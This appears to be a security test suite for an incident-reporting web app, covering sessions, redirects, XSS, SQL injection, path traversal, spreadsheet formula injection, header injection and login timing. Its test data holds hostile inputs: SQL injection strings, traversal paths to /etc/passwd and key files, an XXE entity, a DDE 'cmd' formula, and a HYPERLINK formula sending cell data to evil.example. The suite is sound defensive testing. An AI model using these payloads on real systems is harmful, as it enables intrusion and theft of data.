// test_security.mjs: what somebody tries who wants in, in the order of OWASP's lists.
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, renameSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { test, assert, sleep, until } from './harness.mjs';
import { client, guarded, incident, png, processes, report, signed_in, sql, write_sql } from './client.mjs';

export const options = { seed: [['init', '--demo-city'], ['migrate'], ['setting', 'note_wait', '0'], ['demo', '--days', '1']] };

const password = 'kota-bahari-112';
const session = me => [...me.jar].find(([n]) => /sesi$/.test(n))?.[1];

async function sign_in(me, login, secret = password, more = {}) {
	const { token } = await me.keys('/masuk');
	return me.post('/masuk', { login, password: secret, token, ...more });
}

const is_in = async me => (await me.get('/sandi')).status === 200;

// A request as bytes: what no client of HTTP would send.
const raw = (site, text) => new Promise((done, fail) => {
	const s = connect(Number(new URL(site.url).port), '127.0.0.1'), got = [];
	s.on('data', d => got.push(d)).on('end', () => done(Buffer.concat(got).toString())).on('error', error => got.length ? done(Buffer.concat(got).toString()) : fail(error));
	s.setTimeout(20000, () => { s.destroy(); done(Buffer.concat(got).toString()); });
	s.write(text);		/* and not the end: nginx would take that for having left */
});
const status = answer => Number(answer.match(/^HTTP\/1\.1 (\d+)/)?.[1]);

// A program run by itself, with an environment of our choice.
function cgi(site, program, { method = 'GET', path = '/', query = '', body = '', env = {} }) {
	const { stdout } = spawnSync(join(site.bin, program), { input: body, env: { PATH: process.env.PATH, ...site.env, SIAGA_DATA: site.data,
		ASAN_OPTIONS: process.env.ASAN_OPTIONS ?? '', LSAN_OPTIONS: process.env.LSAN_OPTIONS ?? '',
		REQUEST_METHOD: method, PATH_INFO: path, QUERY_STRING: query, CONTENT_TYPE: 'application/x-www-form-urlencoded',
		CONTENT_LENGTH: String(Buffer.byteLength(body)), REMOTE_ADDR: '192.0.2.9', ...env } });
	return stdout.toString();
}

// --- sessions ------------------------------------------------------------------------

test('a session given by somebody else is never taken over', async ({ site }) => {
	const me = client(site, 'sesi=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
	assert.ok(!await is_in(me));
	assert.equal((await sign_in(me, 'damkar')).status, 303);
	assert.notEqual(session(me), 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
	assert.ok(await is_in(me));
	assert.ok(!await is_in(client(site, 'sesi=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')));
});

test('each sign-in is a new session, and the one it replaces is over', async ({ site }) => {
	const me = client(site);
	await sign_in(me, 'damkar');
	const old = session(me);
	assert.match(old, /^[\w-]{43}$/, '256 bits');
	await sign_in(me, 'damkar');
	assert.notEqual(session(me), old);
	assert.ok(!await is_in(client(site, `sesi=${old}`)), 'the old one still works');
	const now = session(me), kept = sql(site, 'SELECT hex(hash), hex(csrf), hex(device) FROM session').flat().join(' ');
	for (const bytes of [Buffer.from(now), Buffer.from(now, 'base64url')])
		assert.ok(!kept.includes(bytes.toString('hex', 0, 16).toUpperCase()), 'stored as it is sent');
});

test('a session ends with its account, and does not come back with it', async ({ site }) => {
	const me = client(site), admin = await signed_in(site, 'admin');
	const [[id]] = sql(site, "SELECT id FROM account WHERE login = 'dishub'");
	const turn = async how => assert.equal((await admin.post(`/akun/${id}/${how}`, await admin.keys(`/akun/${id}`))).status, 303, how);
	await sign_in(me, 'dishub');
	assert.ok(await is_in(me));
	await turn('nonaktif');
	assert.ok(!await is_in(me), 'still in');
	await turn('aktif');
	assert.ok(!await is_in(me), 'in again');
	await sign_in(me, 'dishub');
	assert.ok(await is_in(me));
	write_sql(site, `UPDATE account SET disabled_at = 1 WHERE id = ${id}`);	// as somebody with a shell would
	assert.ok(!await is_in(me), 'still in');
});

test('after signing out the cookie is worth nothing', async ({ site }) => {
	const me = client(site);
	await sign_in(me, 'damkar');
	const old = session(me), { csrf } = await me.keys('/sandi');
	assert.equal((await me.post('/keluar', { csrf })).status, 303);
	assert.ok(!await is_in(client(site, `sesi=${old}`)));
});

test('a new password ends every session, and the old one opens nothing', async ({ site }) => {
	const a = client(site), b = client(site), mine = 'Sebuah-kalimat-yang-lain-77';
	await sign_in(a, 'bksda');
	await sign_in(b, 'bksda');
	const old = session(a), { csrf, token } = await a.keys('/sandi');
	const changed = await a.post('/sandi', { csrf, token, old: password, new: mine, again: mine });
	assert.equal(changed.status, 303, changed.body_text.match(/err-msg.*?<\/p>/)?.[0]);
	assert.ok(await is_in(a), 'the one that changed it goes on');
	assert.ok(!await is_in(b), 'another device is still in');
	assert.ok(!await is_in(client(site, `sesi=${old}`)), 'its own old session still works');
	assert.equal((await sign_in(client(site), 'bksda')).status, 422);
	assert.equal((await sign_in(client(site), 'bksda', mine)).status, 303);
});

test('cookies cannot be read by scripts, and by TLS go nowhere else', async ({ site }) => {
	const token = (await site.cli('mint', '1')).trim();
	const body = new URLSearchParams({ login: 'pln', password, token }).toString();
	for (const [secure, want] of [['1', /^__Host-sesi=[\w-]{43}; Path=\/; Max-Age=\d+; Secure; HttpOnly; SameSite=(Lax|Strict)$/],
		['', /^sesi=[\w-]{43}; Path=\/; Max-Age=\d+; HttpOnly; SameSite=(Lax|Strict)$/]]) {
		const out = cgi(site, 'admin', { method: 'POST', path: '/masuk', body, env: { SIAGA_SECURE: secure } });
		assert.match(out, /^Status: 303/);
		const set = [...out.matchAll(/^Set-Cookie: (.*)\r$/gm)].map(m => m[1]);
		assert.ok(set.some(c => want.test(c)), set.join('\n'));
		for (const c of set) {
			assert.match(c, /HttpOnly; SameSite=(Lax|Strict)/, c);
			assert.doesNotMatch(c, /Domain=/i, c);
			assert.equal(/Secure/.test(c) && /^__Host-/.test(c), secure === '1', c);
		}
		assert.equal(/^Strict-Transport-Security: max-age=\d{8}/m.test(out), secure === '1');
	}
});

test('another site\'s form arrives as nobody\'s', async ({ site }) => {
	const page = await site.sign_in('damkar');
	const before = sql(site, 'SELECT count(*) FROM session');
	await page.goto('data:text/html,<form method=post action="' + site.url + '/keluar"><input name=csrf value=x></form>');
	page.wrong.length = 0;
	await Promise.all([page.waitForURL(u => u.protocol === 'http:'), page.evaluate(() => document.forms[0].submit())]);
	assert.deepEqual(sql(site, 'SELECT count(*) FROM session'), before, 'it was signed out from elsewhere');
});

// --- where to -----------------------------------------------------------------------

const elsewhere = ['//evil.example', 'https://evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example', '///evil.example',
	'javascript:alert(1)', ' //evil.example', '/%09/evil.example', '/x\r\nSet-Cookie: a=b', '/x%0d%0aSet-Cookie:a=b', '@evil.example', '.evil.example', '/\u2028/evil'];

test('nobody is led elsewhere', async ({ site }) => {
	for (const to of elsewhere) {
		const me = client(site), { token } = await me.keys('/masuk');
		for (const [path, fields] of [['/masuk', { login: 'relawan', password, token, ke: to }], ['/bahasa', { bahasa: 'en', ke: to }], ['/tema', { tema: 'gelap', ke: to }]]) {
			const answer = await me.post(path, fields);
			const where = answer.headers.get('location');
			assert.ok(answer.status < 500, `${path} ke=${JSON.stringify(to)}: ${answer.status}`);
			if (where !== null) {
				assert.match(where, /^\/([^/\\]|$)/, `${path} ke=${JSON.stringify(to)}`);
				assert.equal(new URL(where, site.url).host, new URL(site.url).host, `${path} ke=${JSON.stringify(to)}`);
			}
			assert.equal(answer.headers.get('a'), null);
			assert.ok(!answer.headers.getSetCookie().some(c => c.startsWith('a=')), `${path}: a header of theirs`);
		}
		const link = (await me.get(`/masuk?ke=${encodeURIComponent(to)}`)).body_text.match(/name="ke" value="([^"]*)"/)?.[1];
		assert.ok(link === undefined || /^\/([^/\\]|$)/.test(link), link);
	}
});

// --- what is typed -------------------------------------------------------------------------

// HTML, an attribute's end, a script, a template's marks, names of the tree, SQL, a spreadsheet, printf.
const evil = n => `"'><x-pwn id=p${n}><script>alert(${n})</script><?cs var:csrf ?><?cs include:"/etc/passwd" ?>' OR 1=1;-- %s%n a.b a..b L.common.save =1+1`;

function harmless(text, what) {
	assert.doesNotMatch(text, /<x-pwn/i, `${what}: a tag of theirs`);
	assert.doesNotMatch(text, /<script>alert/i, `${what}: a script of theirs`);
	assert.doesNotMatch(text, /<\?cs /, `${what}: a template's mark as it was typed`);
	assert.doesNotMatch(text, /"'&gt;&lt;x-pwn|='[^']*&lt;x-pwn/, `${what}: the quote got out of its attribute`);
	assert.doesNotMatch(text, /root:x:0/, `${what}: a file`);
}

test('what is typed is shown as it was typed, and does nothing, wherever it is shown', async ({ site }) => {
	const desk = await signed_in(site, 'pengarah'), taker = await signed_in(site, 'petugas'), admin = await signed_in(site, 'admin');
	const sent = await report(site, { story: evil(1), place: evil(2).slice(0, 200), name: evil(3).slice(0, 100), privacy: 'public' });
	assert.ok(sent.number, `${sent.status} ${sent.receipt.match(/err-msg.*?<\/p>/)?.[0]}`);
	harmless(sent.receipt, 'the receipt');

	// A call with everything in it, and an account with such a name.
	const form = (await taker.get('/panggilan')).body_text, [[area]] = sql(site, 'SELECT name FROM area WHERE level = 3 LIMIT 1');
	const keys = { csrf: form.match(/name="csrf" value="([^"]*)"/)[1], token: form.match(/name="token" value="([^"]*)"/)[1] };
	const call = await taker.post('/panggilan', { ...keys, do: 'emergency', phone: '081234567890', name: evil(4).slice(0, 80), type: 'Kebakaran rumah',
		place: evil(5).slice(0, 200), village: evil(6).slice(0, 100), landmark: evil(7).slice(0, 200), detail: evil(8), coords: evil(9).slice(0, 40), category: 'KBR-BGN', area });
	harmless(call.body_text, `the call form again (${call.status})`);
	const account = await admin.post('/akun/baru', { ...await admin.keys('/akun/baru'), login: 'jahat', name: evil(10).slice(0, 80), role: 'call_taker', email: 'jahat@contoh.id' });
	harmless(account.body_text, `the new account (${account.status})`);
	assert.ok(sql(site, "SELECT 1 FROM account WHERE login = 'jahat'").length === 1, 'an account of that name');

	// Its triage, with words in every field, and a note for the reporter.
	const one = (await desk.get(`/triase/${sent.number}`)).body_text;
	const value = name => one.match(new RegExp(`name="${name}" value="([^"]*)"`))?.[1] ?? '';
	const asked = await desk.post(`/triase/${sent.number}`, { csrf: value('csrf'), token: value('token'), version: value('version'), do: 'ask', ask: evil(11) });
	assert.equal(asked.status, 303, asked.body_text.match(/err-msg.*?<\/p>/)?.[0]);
	const noted = await desk.post(`/tiket/${sent.number}/catatan`, { ...await desk.keys(`/tiket/${sent.number}`), catatan: evil(12), pembaca: '2' });
	assert.equal(noted.status, 303);

	const { token } = await sent.me.keys('/lapor');
	const follow = (await sent.me.post('/lacak', { code: sent.code, token })).body_text;
	assert.match(follow, /&lt;x-pwn/, 'the tracking page shows what was said');
	harmless(follow, 'the tracking page');
	const shown = [];
	for (const [who, paths] of [
		[desk, ['/triase', '/triase?lihat=ditanya', `/triase/${sent.number}`, `/tiket/${sent.number}`, '/tugas', '/komando', `/tugas/cari?nomor=${encodeURIComponent(evil(13))}`, `/lapor/mirip?category=DRN&place=${encodeURIComponent(evil(14))}`]],
		[taker, ['/panggilan', `/panggilan/mirip?category=KBR-BGN&place=${encodeURIComponent(evil(15))}`, `/tiket/${sent.number}`]],
		[admin, ['/akun', `/akun/${sql(site, "SELECT id FROM account WHERE login = 'jahat'")[0][0]}`, '/opd', '/kategori']],
		[await signed_in(site, 'auditor'), ['/audit']],
		[client(site), ['/', '/laporan', `/laporan?q=${encodeURIComponent(evil(16))}`, `/laporan?${encodeURIComponent(evil(17))}=1`, `/masuk?ke=${encodeURIComponent(evil(18))}`, `/${encodeURIComponent('<x-pwn>')}`]],
	])
		for (const path of paths) {
			const answer = await who.get(path);
			assert.ok(answer.status < 500, `${path}: ${answer.status}`);
			harmless(answer.body_text, path);
			if (/&lt;x-pwn/.test(answer.body_text))
				shown.push(path);
		}
	assert.ok(shown.length >= 4, `shown only on ${shown}`);

	const page = await site.sign_in('pengarah');
	let alerts = 0;
	page.on('dialog', d => { alerts++; d.dismiss(); });
	for (const path of [`/tiket/${sent.number}`, `/triase/${sent.number}`, '/tugas']) {
		await page.goto(site.url + path);
		await sleep(300);
		assert.equal(await page.locator('x-pwn').count(), 0, path);
		assert.deepEqual(page.wrong, [], path);
	}
	assert.equal(alerts, 0);
});

test('names with dots and brackets are names of nothing', async ({ site }) => {
	const me = client(site);
	for (const name of ['form.story.error', 'L.common.save', 'csrf', 'a..b', 'error', 'me.role', 'staff', 'Config.VarEscapeMode', 'nav.0.path', 'a[0]', '']) {
		const query = `${encodeURIComponent(name)}=${encodeURIComponent('<zq-mark>1')}`;
		for (const path of ['/', '/lapor', '/laporan', '/masuk']) {
			const answer = await me.get(`${path}?${query}`);
			assert.ok([200, 400].includes(answer.status), `${path}?${query}: ${answer.status}`);
			assert.doesNotMatch(answer.body_text, /(<|&lt;)zq-mark/, `${path}?${query}`);
		}
		const answer = await me.post('/lapor', { ...await me.keys('/lapor'), [name]: '<zq-mark>1' });
		assert.doesNotMatch(answer.body_text, /(<|&lt;)zq-mark/, name);
	}
});

test('SQL in a question is words', async ({ site }) => {
	const desk = await signed_in(site, 'pengarah'), before = sql(site, 'SELECT count(*) FROM ticket');
	for (const words of ["'", "' OR '1'='1", "'; DROP TABLE ticket;--", '%', '_', '" NEAR "', '*', 'a" OR b', '\\', "DRT-26-000001-X' UNION SELECT password FROM account--"])
		for (const path of ['/tugas/cari?nomor=', '/laporan?q=', '/laporan?kategori=', '/laporan?kecamatan=', '/laporan?setelah=', '/tugas?prioritas=', '/tugas?kecamatan=', '/tugas?setelah=', '/triase?lihat=', '/laporan/', '/tiket/', '/kategori/', '/panggilan/sop/', '/panggilan/kartu?kategori=']) {
			const answer = await desk.get(path + encodeURIComponent(words));
			assert.ok(answer.status < 500, `${path}${words}: ${answer.status}`);
			assert.doesNotMatch(answer.body_text, /\$argon2id|sqlite|syntax error/, path + words);
		}
	for (const words of ["damkar' --", "' OR 1=1 --", 'damkar"'])
		assert.equal((await sign_in(client(site), words)).status, 422);

	// Lists that are searched by typed words: whatever is in no name finds nobody.
	const admin = await signed_in(site, 'admin'), auditor = await signed_in(site, 'auditor');
	const found = async words => {
		const answer = await admin.get(`/akun?text=${encodeURIComponent(words)}`);
		assert.equal(answer.status, 200, words);
		assert.doesNotMatch(answer.body_text, /\$argon2id/, words);
		return new Set(answer.body_text.match(/href="\/akun\/\d+"/g) ?? []).size;
	};
	assert.equal(await found('damkar.a1'), 1);
	for (const words of ['%', '_', 'd%r', "' OR '1'='1", "x%' OR 1=1 --", "%' UNION SELECT password FROM account --"])
		assert.equal(await found(words), 0, words);
	for (const words of ["auditor' --", "' OR 1=1 --"])
		for (const name of ['tiket', 'pelaku', 'opd', 'tindakan', 'dari'])
			assert.equal((await auditor.get(`/audit?${name}=${encodeURIComponent(words)}`)).status, 422, `${name}=${words}`);
	assert.ok(Number(sql(site, 'SELECT count(*) FROM ticket')[0][0]) >= Number(before[0][0]));
});

test('bytes that are no text are refused, before anything reads them', async ({ site }) => {
	for (const bad of ['%00', '%c0%af', '%c1%81', '%e0%80%af', '%ed%a0%80', '%f4%90%80%80', '%ff', '%fe%ff', '%80'])
		for (const path of [`/lapor${bad}`, `/laporan/${bad}`, `/lapor?x=${bad}`, `/lapor?${bad}=x`]) {
			const answer = await raw(site, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
			assert.ok([400, 404].includes(status(answer)), `${path}: ${status(answer)}`);
			if (path.includes('?'))
				assert.equal(status(answer), 400, path);
			assert.match(answer, /x-content-type-options: nosniff/i, path);
		}
	const me = client(site), { token } = await me.keys('/lapor');
	for (const bad of ['story=%00', 'story=%c0%af', 'story=%ed%a0%80', 'story=a%1bb', 'name=a%0d%0aBcc:x@y.z', 'story=%ff'])
		assert.ok([400, 422].includes((await me.ask('POST', '/lapor', { body: `token=${token}&${bad}` })).status), bad);
});

test('one name sent twice is a fault, and the address does not add to a form', async ({ site }) => {
	const me = client(site), { token } = await me.keys('/lapor');
	const before = sql(site, 'SELECT count(*) FROM ticket')[0][0];
	const whole = new URLSearchParams({ token, category: 'DRN', area: sql(site, 'SELECT code FROM area WHERE level = 3 LIMIT 1')[0][0], place: 'Jl. Melati 12',
		story: 'Got di depan sekolah tersumbat sampah.', name: '', phone: '', email: '', privacy: 'anonymous', consent: '1' });
	for (const again of ['privacy=public', 'privacy=anonymous', 'category=JLN', 'story=Lain+dari+yang+tadi,+dan+lebih+panjang.', 'place=x'])
		assert.equal((await me.ask('POST', '/lapor', { body: `${whole}&${again}` })).status, 422, again);
	assert.equal((await me.ask('POST', `/lapor?token=${token}`, { body: 'story=x' })).status, 403, 'a token in the address');
	const in_ = await signed_in(site, 'damkar'), { csrf } = await in_.keys('/sandi');
	assert.equal((await in_.ask('POST', `/keluar?csrf=${csrf}`, { body: '' })).status, 403, 'a csrf in the address');
	assert.equal((await in_.ask('POST', '/keluar', { body: `csrf=x&csrf=${csrf}` })).status, 403, 'the second of two');
	assert.ok(await is_in(in_));
	assert.equal(sql(site, 'SELECT count(*) FROM ticket')[0][0], before);
});

test('the method is the method', async ({ site }) => {
	const me = await signed_in(site, 'damkar'), { csrf } = await me.keys('/sandi');
	for (const headers of [{ 'x-http-method-override': 'POST' }, { 'x-http-method': 'POST' }, { 'x-method-override': 'POST' }])
		assert.equal((await me.get(`/keluar?_method=POST&csrf=${csrf}`, { headers })).status, 405);
	assert.ok(await is_in(me));
});

test('the type of a body is what we read, or 415', async ({ site }) => {
	const me = client(site);
	for (const type of ['application/json', 'text/plain', 'application/xml', 'application/x-www-form-urlencoded-not', ''])
		assert.ok([415, 403].includes((await me.ask('POST', '/lacak', { body: 'code=x', headers: { 'content-type': type } })).status), type);
	const answer = await me.ask('POST', '/lacak', { body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', headers: { 'content-type': 'application/xml' } });
	assert.equal(answer.status, 415);
});

// --- a spreadsheet ----------------------------------------------------------------------

// RFC 4180, as a spreadsheet reads it.
const cells = text => text.split('\r\n').filter(Boolean).flatMap(line => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)]
	.map(m => m[1] === undefined ? { text: m[2], ours: true } : { text: m[1].replaceAll('""', '"') }));

const formulas = ['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', ' =1+1', '\uff1d1+1', '=1\n=2'];

// Every cell is a number of ours or a text; none is a formula; and what was typed is there.
function is_only_text(file, typed, what) {
	assert.equal(file.status, 200, what);
	assert.match(file.headers.get('content-type'), /^text\/csv/, what);
	assert.match(file.headers.get('content-disposition'), /^attachment; filename="[\w.-]+\.csv"$/, what);
	guarded(file, what);
	const all = cells(file.body_text);
	for (const { text, ours } of all)
		if (ours)
			assert.match(text, /^\d*$/, `${what}: a cell without quotes that is no number of ours`);
		else
			assert.doesNotMatch(text, /^[ \t\r\n]*[=+\-@\t\r\uff0b\uff0d\uff1d\uff20]/, `${what}: a formula`);
	for (const formula of typed)
		assert.ok(all.some(c => c.text === `'${formula.trim()}`), `${what}: ${formula} is not in it`);
	return all.length;
}

test('no word of theirs is a formula in a file for a spreadsheet', async ({ site }) => {
	const writers = execFileSync('sh', ['-c', "grep -lE 'csv_text|csv_end|text/csv' cgi/*/*.c | sort"], { encoding: 'utf8' }).trim().split('\n');
	assert.deepEqual(writers, ['cgi/action/audit_action.c', 'cgi/action/calls_action.c', 'cgi/action/sheet_action.c',
		'cgi/lib/csv.c', 'cgi/page/audit_page.c',
		'cgi/page/calls_page.c', 'cgi/page/privacy_file.c', 'cgi/page/privacy_page.c', 'cgi/page/work_sheet.c'],
		'another table for spreadsheets: take it here too, with formulas in every column that somebody types');

	// In notes and in an account's name: the record.
	const desk = await signed_in(site, 'pengarah'), admin = await signed_in(site, 'admin');
	const sent = await report(site, { privacy: 'public', name: '=2+2', place: '@SUM(2+2)', story: `=HYPERLINK("http://evil.example")${'.'.repeat(20)}` });
	for (const note of formulas)
		assert.equal((await desk.post(`/tiket/${sent.number}/catatan`, { ...await desk.keys(`/tiket/${sent.number}`), catatan: note, pembaca: '2' })).status, 303, note);
	const hidden = text => Object.fromEntries([...text.matchAll(/<input type="hidden" name="(\w+)" value="([^"]*)"/g)].map(m => [m[1], m[2]]));
	const [[id, role, agency]] = sql(site, "SELECT a.id, role, g.code FROM account a JOIN agency g ON g.id = a.agency WHERE login = 'bpbd'");
	const named = await admin.post(`/akun/${id}`, { ...hidden((await admin.get(`/akun/${id}`)).body_text), name: '=1+1', role, agency, email: '' });
	assert.equal(named.status, 303, named.body_text.match(/err-msg.*?<\/p>/g)?.join());
	assert.equal((await sign_in(client(site), 'bpbd')).status, 303);
	const auditor = await signed_in(site, 'auditor');
	const record = await auditor.post('/audit/unduh', await auditor.keys('/audit'));
	assert.ok(is_only_text(record, ['=1+1'], '/audit/unduh') > 1000);

	// In the notes of calls: their list.
	const taker = await signed_in(site, 'petugas'), head = await signed_in(site, 'penyelia');
	const noted = formulas.filter(f => !f.includes('\n'));
	for (const note of noted)
		assert.equal((await taker.post('/panggilan', { ...await taker.keys('/panggilan'), do: 'information', detail: note })).status, 200, note);
	is_only_text(await head.post('/panggilan/daftar/unduh', await head.keys('/panggilan/daftar')), noted, '/panggilan/daftar/unduh');

	// In the places of tickets: a list of work.
	for (const place of noted)
		await incident(site, { place });
	is_only_text(await desk.post('/tugas/csv', await desk.keys('/tugas')), noted, '/tugas/csv');

	// In a report, and in what was said of it: the copy of somebody's data.
	const { me, code } = sent, own = async (path, fields) => me.post(path, { code, token: (await me.keys('/lapor')).token, ...fields });
	assert.equal((await own('/lacak/data/minta', { kind: 'access', words: '' })).status, 200);
	const [[number]] = sql(site, "SELECT s.number FROM subject s JOIN ticket t ON t.id = s.ticket WHERE t.number = '" + sent.number + "'");
	const path = `/privasi/permintaan/${number}`;
	for (const [step, fields] of [['kerjakan', {}], ['kabulkan', { reply: 'Silakan.' }]])
		assert.equal((await admin.post(`${path}/${step}`, { ...hidden((await admin.get(path)).body_text), ...fields })).status, 303, step);
	const copy = await admin.post(`${path}/unduh`, hidden((await admin.get(path)).body_text));
	is_only_text(copy, [...formulas, '=2+2', '@SUM(2+2)'], 'a copy of the own data');
});

// --- files ------------------------------------------------------------------------------

test('no path leads out of what is served', async ({ site }) => {
	const me = await signed_in(site, 'pengarah'), cookie = me.cookie();
	const key = readFileSync(join(site.data, 'siaga.key'), 'utf8').trim();
	for (const start of ['/static/', '/static/err/', '/laporan/', '/tiket/', '/foto/', '/panggilan/sop/', '/kategori/', '/'])
		for (const step of ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..\\', '..%5c', '....//', '%252e%252e%252f', '..;/', '..%00/'])
			for (const target of ['etc/passwd', 'Makefile', 'conf/nginx.conf', 'siaga.key', 'siaga.db']) {
				const answer = await raw(site, `GET ${start}${step.repeat(6)}${target} HTTP/1.1\r\nHost: x\r\nCookie: ${cookie}\r\nConnection: close\r\n\r\n`);
				assert.ok([200, 301, 303, 400, 403, 404].includes(status(answer)), `${start}${step}${target}: ${status(answer)}`);
				assert.ok(!answer.includes('root:x:0') && !answer.includes('clearsilver-dev') && !answer.includes('worker_processes') &&
					!answer.includes('SQLite format 3') && !answer.includes(key), `${start}${step.repeat(6)}${target}`);
			}
	for (const path of ['/static..', '/static../static/..', '/static/err..', '/static/..%2f', '/static/err/..%2f..%2f', '/static//', '/static/./']) {
		const answer = await raw(site, `GET ${path}/Makefile HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
		assert.ok([400, 404].includes(status(answer)), `${path}: ${status(answer)}`);
	}
	for (const path of ['/static', '/static/', '/static/err/', '/.git/config', '/siaga.db', '/templates/home.cs'])
		assert.notEqual((await client(site).get(path)).status, 200, path);
});

test('what hangs on another ticket is not on this one', async ({ site }) => {
	const desk = await signed_in(site, 'pengarah');
	const a = await report(site, { privacy: 'public' }, [png()]), b = await report(site, { privacy: 'public', place: 'Jl. Anggrek 3' }, [png(48, 48, [9, 9, 90])]);
	write_sql(site, `UPDATE ticket SET published = 1, display = 2 WHERE number IN ('${a.number}', '${b.number}');
		UPDATE attachment SET public = 1 WHERE ticket IN (SELECT id FROM ticket WHERE published = 1)`);
	for (const [mine, other] of [[a, b], [b, a]]) {
		const [[reporter, photo]] = sql(site, `SELECT r.id, p.name FROM ticket t JOIN reporter r ON r.ticket = t.id
			JOIN attachment p ON p.ticket = t.id WHERE t.number = '${mine.number}'`);
		for (const [me, path] of [[desk, n => `/tiket/${n}/identitas/${reporter}`], [mine.me, n => `/laporan/${n}/foto/${photo}`], [mine.me, n => `/laporan/${n}/foto/${photo}/kecil`]]) {
			assert.equal((await me.get(path(mine.number))).status, 200, path(mine.number));
			assert.equal((await me.get(path(other.number))).status, 404, path(other.number));
		}
		const follow = async code => (await mine.me.post('/lacak', { code, token: (await mine.me.keys('/lapor')).token })).body_text;
		assert.ok((await follow(mine.code)).includes(mine.number));
		assert.ok(!(await follow(mine.code)).includes(other.number));
	}
});

// --- whom we believe ----------------------------------------------------------------------

test('who asks does not say what our address is', async ({ site }) => {
	const host = 'evil.example';
	const ask = (path, more = '') => raw(site, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-Host: ${host}\r\nX-Forwarded-For: 1.2.3.4\r\nForwarded: host=${host}\r\nX-Original-URL: /akun\r\nX-Rewrite-URL: /akun\r\n${more}Connection: close\r\n\r\n`);
	for (const path of ['/', '/lapor', '/laporan', '/masuk', '/tentang', '/tugas', '/nowhere', '/static/nope', '/favicon.ico'])
		assert.doesNotMatch(await ask(path), /evil\.example/, path);
	const body = `token=${(await client(site).keys('/lapor')).token}&${new URLSearchParams({ category: 'DRN', area: sql(site, 'SELECT code FROM area WHERE level = 3 LIMIT 1')[0][0],
		place: 'Jl. Melati 12', story: 'Got di depan sekolah tersumbat sampah.', privacy: 'public', name: 'Yuli', email: 'yuli@contoh.id', consent: '1', phone: '' })}`;
	const sent = await raw(site, `POST /lapor HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-Host: ${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
	assert.equal(status(sent), 200);
	assert.doesNotMatch(sent, /evil\.example/);
	assert.ok(sent.includes(`${site.url}/lacak`), 'the receipt leads to our own address');
	await site.cli('setting', 'mail_from', 'siaga@bahari.example');
	const letter = await site.mail(m => m.to.includes('yuli@contoh.id'));
	assert.doesNotMatch(letter.raw, /evil\.example/);
});

test('no header is written by who fills a form', async ({ site }) => {
	for (const name of ['yuli@contoh.id\r\nBcc: x@evil.example', 'yuli@contoh.id%0aBcc:x', '"yuli"@contoh.id\nTo: x@evil.example', '<yuli@contoh.id>', 'yuli@contoh.id,x@evil.example', 'yuli@contoh.id x@evil.example']) {
		const sent = await report(site, { email: name, privacy: 'public' });
		assert.equal(sent.number, undefined, name);
	}
	assert.ok(!site.mails().some(m => /evil\.example/.test(m.raw)));
});

test('an unknown name takes as long as a wrong password, and says the same', async ({ site }) => {
	const token = (await site.cli('mint', '1')).trim();
	const ask = login => {
		const body = new URLSearchParams({ login, password: 'salah-sama-sekali-99', token }).toString(), from = process.hrtime.bigint();
		const out = cgi(site, 'admin', { method: 'POST', path: '/masuk', body, env: { REMOTE_ADDR: `192.0.2.${Math.floor(Math.random() * 250)}` } });
		return { ms: Number(process.hrtime.bigint() - from) / 1e6, out: out.replaceAll(login, 'NAME').replace(/value="[\w.-]{40,}"/g, 'KEY') };
	};
	const known = ['dinsos', 'dp3a', 'pdam', 'rsud', 'dukcapil', 'dintani', 'tni'], unknown = known.map(n => `${n.slice(0, -1)}q`);
	const middle = list => list.map(a => a.ms).sort((a, b) => a - b)[list.length >> 1];
	ask('warm');
	const a = [], b = [];
	for (let i = 0; i < known.length; i++) {
		a.push(ask(known[i]));
		b.push(ask(unknown[i]));
	}
	assert.equal(a[0].out, b[0].out, 'the answers differ');
	assert.match(a[0].out, /^Status: 422/);
	const ratio = middle(a) / middle(b);
	console.log(`# known ${middle(a).toFixed(1)} ms, unknown ${middle(b).toFixed(1)} ms`);
	assert.ok(ratio > 0.6 && ratio < 1.7, `known ${middle(a)} ms, unknown ${middle(b)} ms`);
});

test('who has to wait is told so, for a name that is there and for one that is not', async ({ site }) => {
	const token = (await site.cli('mint', '1')).trim();
	const last = login => {
		const body = new URLSearchParams({ login, password: 'salah-sama-sekali-99', token }).toString();
		let out = '';
		for (let i = 0; i < 8 && !/^Status: 429/.test(out); i++)
			out = cgi(site, 'admin', { method: 'POST', path: '/masuk', body, env: { REMOTE_ADDR: '198.51.100.7' } });
		assert.match(out, /^Status: 429/, login);
		const { headers } = answer_of(out);
		guarded({ headers }, '429');
		assert.match(headers.get('retry-after'), /^\d+$/);
		return out.replaceAll(login, 'NAME').replace(/value="[\w.-]{40,}"/g, 'KEY').replace(/\d+ detik|^Retry-After.*$/gm, '').replace(/^Content-Length.*$/m, '');
	};
	assert.equal(last('tni'), last('tnq'));
});

test('nothing of a person or a secret is in the logs', async ({ site }) => {
	const sent = await report(site, { name: 'Rahasiawati', phone: '081298765432', email: 'rahasiawati@contoh.id', privacy: 'confidential' });
	await sent.me.post('/lacak', { code: sent.code, token: (await sent.me.keys('/lapor')).token });
	await sent.me.get(`/lacak?code=${sent.code}`);
	await sign_in(client(site), 'pln', 'sandi-yang-diketik-88');
	await sleep(1200);
	const logs = site.log() + execFileSync('sh', ['-c', `cat "${site.dir}"/run/log/*`], { encoding: 'utf8' });
	assert.ok(logs.length > 100);
	for (const secret of ['Rahasiawati', '081298765432', '6281298765432', 'rahasiawati@contoh.id', sent.code, 'sandi-yang-diketik-88'])
		assert.ok(!logs.includes(secret), `${secret} is in a log`);
});

